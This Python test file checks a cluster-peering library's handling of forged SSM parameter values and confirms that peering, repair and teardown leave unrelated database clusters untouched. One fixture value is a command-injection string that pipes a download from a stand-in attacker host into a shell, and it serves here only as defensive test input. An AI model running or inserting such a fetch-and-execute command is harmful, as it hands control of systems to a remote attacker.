"""Whatever the parameters say: they are compared with the clusters, and decide nothing about them."""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dsql_dr_constructs.runtime.cluster_peering.cluster import PeeringError
from dsql_dr_constructs.runtime.cluster_peering.peering import Peering
from dsql_dr_constructs.runtime.cluster_peering.repair import Repair
from dsql_dr_constructs.runtime.cluster_peering.teardown import Teardown
from dsql_dr_constructs.runtime.parameter_registry import parameter_paths
from tests.runtime.cluster_peering.hand_made_aws import (
    LOCAL,
    LOCAL_ID,
    OTHER_LOCAL,
    OTHER_PEER,
    PEER,
    PEER_ENTRY,
    PEER_ID,
    STACK,
    THIRD,
    UNFINISHED,
    HandMadeAws,
)

THEIRS = {"dsql-dr:deployment": "Orders-production", "dsql-dr:pair": "theirs"}
"""Tags of a pair of another app with the same deployment name."""
NAMES = parameter_paths("Orders-production", "us-east-1", "us-west-2")
OTHER_ID = OTHER_PEER.rpartition("/")[2]
FORGED = {
    "empty": "",
    "garbage": "orders",
    "the local cluster's": LOCAL,
    "of another account": OTHER_PEER.replace("111111111111", "222222222222"),
    "of another partition": OTHER_PEER.replace("arn:aws:", "arn:aws-cn:"),
    "of another Region": THIRD,
    "of another service": OTHER_PEER.replace(":dsql:", ":rds:"),
    "too short": OTHER_PEER[:-1],
    "in capitals": OTHER_PEER.upper(),
    "with a line more": f"{OTHER_PEER}\n",
    "of all clusters": OTHER_PEER.replace(OTHER_ID, "*"),
    "a command": "$(curl https://evil.example | sh)",
}


@pytest.fixture
def aws() -> HandMadeAws:
    """A pair, peered and in the SSM parameters, and another pair in the same account and Regions."""
    return deployed()


def deployed() -> HandMadeAws:
    aws = with_another_pair(HandMadeAws().peered())
    step(aws)
    aws.writes.clear()
    aws.calls.clear()
    aws.record.clear()
    return aws


def with_another_pair(aws: HandMadeAws) -> HandMadeAws:
    aws.add_cluster(OTHER_PEER, peers=[OTHER_LOCAL])
    aws.add_cluster(OTHER_LOCAL, peers=[OTHER_PEER])
    aws.add_cluster(THIRD)
    return aws


def step(aws: HandMadeAws, request_type: str = "Update") -> dict[str, Any]:
    return Peering(aws.event(request_type), pair=aws.pair(), clock=lambda: aws.now).step()


def create(aws: HandMadeAws) -> None:
    while not step(aws, "Create")["IsComplete"]:
        aws.now += 10


def teardown(aws: HandMadeAws, stack_status: str, removal_policy: str) -> None:
    aws.stack_status = stack_status
    aws.environment["REMOVAL_POLICY"] = removal_policy
    event = aws.event("Delete")
    while not Teardown(event, pair=aws.pair(), clock=lambda: aws.now).step()["IsComplete"]:
        aws.now += 10


def repair(aws: HandMadeAws) -> dict[str, Any]:
    def sleep(seconds: float) -> None:
        aws.now += seconds

    return Repair(pair=aws.pair(), clock=lambda: aws.now, sleep=sleep, seconds=210.0).run()


def remove_peers(aws: HandMadeAws) -> None:
    for arn in (PEER, LOCAL):
        aws.clusters[arn]["peers"] = []


# an existing pair


@pytest.mark.parametrize("value", [*FORGED.values(), OTHER_PEER], ids=[*FORGED, "another cluster's"])
@pytest.mark.parametrize("region", ["us-east-1", "us-west-2"])
def test_forged_peer_of_an_existing_pair_is_overwritten_and_the_clusters_stay(
    aws: HandMadeAws, region: str, value: str
) -> None:
    before = copy.deepcopy(aws.clusters), dict(aws.parameters)
    aws.parameters[region, PEER_ENTRY] = value
    assert repair(aws)["changed"] == [f"{region}: wrote {PEER_ENTRY}"]
    assert (aws.clusters, aws.parameters) == before


@pytest.mark.parametrize("value", [*FORGED.values(), OTHER_PEER], ids=[*FORGED, "another cluster's"])
def test_destroy_deletes_the_pair_whatever_was_forged(aws: HandMadeAws, value: str) -> None:
    aws.parameters["us-east-1", PEER_ENTRY] = value
    teardown(aws, "DELETE_IN_PROGRESS", "destroy")
    assert {arn: one["status"] for arn, one in aws.clusters.items()} == {
        PEER: "PENDING_DELETE",
        LOCAL: "ACTIVE",  # which CloudFormation deletes next
        OTHER_PEER: "ACTIVE",
        OTHER_LOCAL: "ACTIVE",
        THIRD: "PENDING_SETUP",
    }


# a pair that has to be peered


@pytest.mark.parametrize("value", FORGED.values(), ids=FORGED)
@pytest.mark.parametrize("field", ["arn", "identifier"])
def test_entry_that_names_no_cluster_that_there_could_be_is_overwritten(
    aws: HandMadeAws, field: str, value: str
) -> None:
    remove_peers(aws)
    name = f"/dsql-dr/Orders-production/us-east-1/{field}"
    aws.parameters["us-west-2", name] = value
    answer = repair(aws)
    assert answer["done"]
    assert f"us-west-2: wrote {name}" in answer["changed"]
    assert identifiers(aws) == {PEER_ID, LOCAL_ID}, "and nobody is asked for it"


@pytest.mark.parametrize("status", [None, "DELETING", "PENDING_DELETE"])
def test_entry_of_a_cluster_that_is_gone_is_overwritten(aws: HandMadeAws, status: str | None) -> None:
    remove_peers(aws)
    aws.clusters[OTHER_PEER]["status"] = status
    if not status:
        del aws.clusters[OTHER_PEER]
    aws.parameters["us-west-2", PEER_ENTRY] = OTHER_PEER
    assert f"us-west-2: wrote {PEER_ENTRY}" in repair(aws)["changed"]


@pytest.mark.parametrize("field", ["arn", "identifier"])
@pytest.mark.parametrize("ours", [PEER, LOCAL])
@pytest.mark.parametrize("registry", ["us-east-1", "us-west-2", "us-east-2"])
@pytest.mark.parametrize("request_type", ["Create", "Update"])
def test_entry_of_another_cluster_that_exists_refuses_before_anything_is_changed(
    aws: HandMadeAws, request_type: str, registry: str, ours: str, field: str
) -> None:
    remove_peers(aws)
    aws.environment["PARAMETER_REGIONS"] += ",us-east-2"
    theirs = OTHER_PEER if ours == PEER else OTHER_LOCAL
    name = f"/dsql-dr/Orders-production/{ours.split(':')[3]}/{field}"
    aws.parameters[registry, name] = theirs if field == "arn" else OTHER_ID
    before = copy.deepcopy(aws.clusters), dict(aws.parameters)
    with pytest.raises(PeeringError) as failure:
        step(aws, request_type)
    sentence = str(failure.value)
    assert f"parameter {name} in {registry} names {theirs}, which exists, and this deployment's cluster is {ours}" in (
        sentence
    )
    assert "Give this one another deployment_name." in sentence
    assert f"run aws ssm delete-parameters --region {registry} --names {name}, then try again" in sentence
    assert (aws.clusters, aws.parameters, aws.writes) == (*before, [])


def test_command_deletes_every_entry_that_stands_in_the_way_and_then_it_works(aws: HandMadeAws) -> None:
    remove_peers(aws)
    for registry in ("us-east-1", "us-west-2"):
        aws.parameters[registry, PEER_ENTRY] = OTHER_PEER
        aws.parameters[registry, "/dsql-dr/Orders-production/us-west-2/identifier"] = OTHER_ID
    commands = re.findall(r"aws ssm delete-parameters --region (\S+) --names ((?:/\S+ ?)+)", repair(aws)["error"])
    for region, names in commands:
        aws.client("ssm", region).delete_parameters(Names=[one.rstrip(",") for one in names.split()])
    assert len(commands) == 2
    assert repair(aws)["done"]


# two apps with one deployment name, after this pair is peered


@pytest.mark.parametrize("change", [lambda aws: step(aws), lambda aws: repaired(aws)], ids=["deployment", "repair"])
@pytest.mark.parametrize("field", ["arn", "identifier"])
@pytest.mark.parametrize("registry", ["us-east-1", "us-west-2"])
@pytest.mark.parametrize(("ours", "theirs"), [(PEER, OTHER_PEER), (LOCAL, OTHER_LOCAL)])
@pytest.mark.parametrize("their_peer", ["seen", THIRD])
def test_existing_pair_that_takes_anothers_name_is_refused_before_a_parameter_is_written(
    aws: HandMadeAws,
    their_peer: str,
    ours: str,
    theirs: str,
    registry: str,
    field: str,
    change: Callable[[HandMadeAws], object],
) -> None:
    """As after a change of deployment_name: nothing stands under the new name yet, but what the other app wrote."""
    peer = THIRD if their_peer == THIRD else OTHER_LOCAL if theirs == OTHER_PEER else OTHER_PEER
    aws.add_cluster(theirs, peers=[peer], tags=THEIRS)
    aws.add_cluster(peer, peers=[theirs], tags=THEIRS)
    name = f"/dsql-dr/Orders-production/{ours.split(':')[3]}/{field}"
    aws.parameters = {(registry, name): theirs if field == "arn" else OTHER_ID}
    before = copy.deepcopy(aws.clusters), dict(aws.parameters)
    with pytest.raises(PeeringError) as failure:
        change(aws)
    sentence = str(failure.value)
    assert f"parameter {name} in {registry} names {theirs}, which exists, and this deployment's cluster is {ours}" in (
        sentence
    )
    assert f"run aws ssm delete-parameters --region {registry} --names {name}, then try again" in sentence
    assert (aws.clusters, aws.parameters, aws.writes) == (*before, [])


def repaired(aws: HandMadeAws) -> None:
    answer = repair(aws)
    if not answer["done"]:
        raise PeeringError(answer["error"])


@pytest.mark.parametrize(
    "changed",
    [
        pytest.param({"tags": {}}, id="without tags"),
        pytest.param({"tags": {**THEIRS, "dsql-dr:pair": "ours"}}, id="of this pair, replaced"),
        pytest.param({"tags": {"dsql-dr:deployment": "Orders-production"}}, id="of no pair"),
        pytest.param({"tags": {**THEIRS, "dsql-dr:deployment": "Orders"}}, id="of another name"),
        pytest.param({"status": "PENDING_DELETE"}, id="about to be deleted"),
        pytest.param({"peers": []}, id="without a peer"),
        pytest.param({"peers": [PEER]}, id="whose peer does not have it"),
    ],
)
def test_entry_of_a_cluster_that_is_no_other_pairs_of_this_name_is_overwritten(
    aws: HandMadeAws, changed: dict[str, Any]
) -> None:
    aws.add_cluster(OTHER_LOCAL, peers=[OTHER_PEER], tags=THEIRS)
    aws.clusters[OTHER_LOCAL].update(changed)
    name = "/dsql-dr/Orders-production/us-west-2/arn"
    aws.parameters["us-west-2", name] = OTHER_LOCAL
    assert repair(aws)["changed"] == [f"us-west-2: wrote {name}"]


def test_first_deployment_is_refused_if_another_was_registered_while_it_waited() -> None:
    aws = HandMadeAws()
    assert not step(aws, "Create")["IsComplete"]
    others_entries = register_another_pair(aws)
    with pytest.raises(PeeringError, match="another deployment uses the name Orders-production, so no parameter was"):
        create(aws)
    assert aws.parameters == others_entries
    teardown(aws, "ROLLBACK_IN_PROGRESS", "destroy")
    assert aws.parameters == others_entries
    assert [aws.clusters[arn]["peers"] for arn in (PEER, LOCAL, OTHER_LOCAL)] == [[], [], [OTHER_LOCAL, THIRD]]


def test_entry_that_another_deployment_writes_at_the_same_moment_is_left_and_refuses() -> None:
    aws, theirs = HandMadeAws().peered(), {}
    aws.before("put_parameter", "us-west-2", lambda: theirs.update(register_another_pair(aws)))
    assert not step(aws, "Create")["IsComplete"]
    assert {key: aws.parameters[key] for key in theirs} == theirs
    with pytest.raises(PeeringError, match="another deployment uses the name Orders-production"):
        step(aws, "Create")
    teardown(aws, "ROLLBACK_IN_PROGRESS", "destroy")
    assert aws.parameters == theirs


def register_another_pair(aws: HandMadeAws) -> dict[tuple[str, str], str]:
    """One with the same name, in us-west-2 and a third Region."""
    aws.add_cluster(OTHER_LOCAL, peers=[THIRD], tags=THEIRS)
    aws.add_cluster(THIRD, peers=[OTHER_LOCAL], tags=THEIRS)
    path = "/dsql-dr/Orders-production/us-west-2"
    entries = {("us-west-2", f"{path}/arn"): OTHER_LOCAL, ("us-west-2", f"{path}/identifier"): OTHER_ID}
    aws.parameters.update(entries)
    return entries


# a deployment that was refused is rolled back


@pytest.mark.parametrize("removal_policy", ["retain", "destroy"])
def test_rollback_of_a_refused_deployment_leaves_the_others_entries_and_clusters(removal_policy: str) -> None:
    aws = with_another_pair(HandMadeAws())
    for name in NAMES:
        theirs = OTHER_PEER if "/us-east-1/" in name else OTHER_LOCAL
        aws.parameters["us-west-2", name] = theirs if name.endswith("/arn") else "of the other deployment"
    aws.parameters["us-east-1", "/dsql-dr/Orders-production/us-east-1/endpoint"] = "of nobody"
    before = copy.deepcopy(aws.clusters), {key: value for key, value in aws.parameters.items() if key[0] == "us-west-2"}
    with pytest.raises(PeeringError, match="another deployment uses the name"):
        step(aws, "Create")
    teardown(aws, "ROLLBACK_IN_PROGRESS", removal_policy)
    assert (aws.clusters, aws.parameters) == before


def test_rollback_of_a_deployment_with_anothers_primary_leaves_its_entries() -> None:
    """Two apps whose primary's stack is the same: the second adds its cluster to no pair."""
    aws = with_another_pair(HandMadeAws())
    aws.add_cluster(PEER, peers=[THIRD])
    aws.add_cluster(THIRD, peers=[PEER])
    aws.parameters["us-east-1", PEER_ENTRY] = PEER
    with pytest.raises(PeeringError, match=f"cluster {PEER} is peered with {THIRD}"):
        step(aws, "Create")
    teardown(aws, "ROLLBACK_IN_PROGRESS", "destroy")
    assert aws.parameters == {("us-east-1", PEER_ENTRY): PEER}
    assert aws.clusters[PEER]["peers"] == [PEER, THIRD]


# any text in any parameter

WELL_FORMED = st.builds(
    lambda partition, region, account, identifier: f"arn:{partition}:dsql:{region}:{account}:cluster/{identifier}",
    st.sampled_from(["aws", "aws-cn"]),
    st.sampled_from(["us-east-1", "us-west-2", "ca-central-1"]),
    st.sampled_from(["111111111111", "222222222222"]),
    st.sampled_from([PEER_ID, LOCAL_ID, OTHER_ID, "x" * 26, "x" * 25, "*"]),
)
TEXT = st.one_of(st.text(max_size=60), WELL_FORMED, st.sampled_from([OTHER_ID, PEER_ID, "x" * 26, *FORGED.values()]))
ENTRIES = st.dictionaries(st.tuples(st.sampled_from(["us-east-1", "us-west-2"]), st.sampled_from(NAMES)), TEXT)
CHANGES: dict[str, Callable[[HandMadeAws], object]] = {
    "deployment": step,
    "repair": repair,
    "rollback": lambda aws: teardown(aws, "ROLLBACK_IN_PROGRESS", "destroy"),
    "retain": lambda aws: teardown(aws, "DELETE_IN_PROGRESS", "retain"),
    "destroy": lambda aws: teardown(aws, "DELETE_IN_PROGRESS", "destroy"),
}


@settings(max_examples=300)
@given(
    forged=ENTRIES,
    peered=st.booleans(),
    tagged=st.booleans(),
    change=st.sampled_from(sorted(CHANGES)),
    recorded=st.booleans(),
)
def test_no_text_in_a_parameter_reaches_a_cluster_that_is_not_the_pairs(
    forged: dict[tuple[str, str], str], peered: bool, tagged: bool, change: str, recorded: bool
) -> None:
    aws = deployed()
    for arn in (OTHER_PEER, OTHER_LOCAL) if tagged else ():
        aws.clusters[arn]["tags"] = dict(THEIRS)
    if not recorded:
        aws.physical_ids[STACK, "Peering"] = UNFINISHED
    if not peered:
        remove_peers(aws)
    aws.parameters.update(forged)
    theirs = {arn: copy.deepcopy(aws.clusters[arn]) for arn in (OTHER_PEER, OTHER_LOCAL, THIRD)}
    sentence = ""
    try:
        answer = CHANGES[change](aws)
    except PeeringError as failure:
        sentence = str(failure)
    else:
        sentence = answer.get("error", "") if isinstance(answer, dict) else ""
    assert {arn: aws.clusters[arn] for arn in theirs} == theirs
    for call in aws.record:
        if call.service == "dsql" and call.arguments["identifier"] not in (PEER_ID, LOCAL_ID):
            assert call.operation == "GetCluster"
            assert re.fullmatch("[a-z0-9]{26}", call.arguments["identifier"])
            assert call.region in ("us-east-1", "us-west-2")
    assert not sentence or not peered or tagged, "an unrelated cluster's ARN stops no repair of an existing pair"
    if sentence:
        assert "another deployment uses the name" in sentence, "which is all that a parameter can bring about"
        assert re.search(r"run aws ssm delete-parameters --region [a-z0-9-]+ --names [\w/ -]+[ ,]", sentence)
        assert set(re.findall(r"\S+/\S+", sentence)) == known_words(sentence)


def known_words(sentence: str) -> set[str]:
    """What may stand in a sentence with a slash: names of parameters, and ARNs of a checked form."""
    arn = r"arn:aws:dsql:us-(east-1|west-2):111111111111:cluster/[a-z0-9]{26}"
    words = re.findall(r"\S+/\S+", sentence)
    return {one for one in words if one.rstrip(",:") in NAMES or re.fullmatch(arn, one.rstrip(",:"))}


def identifiers(aws: HandMadeAws) -> set[str]:
    return {call.arguments["identifier"] for call in aws.record if call.service == "dsql"}
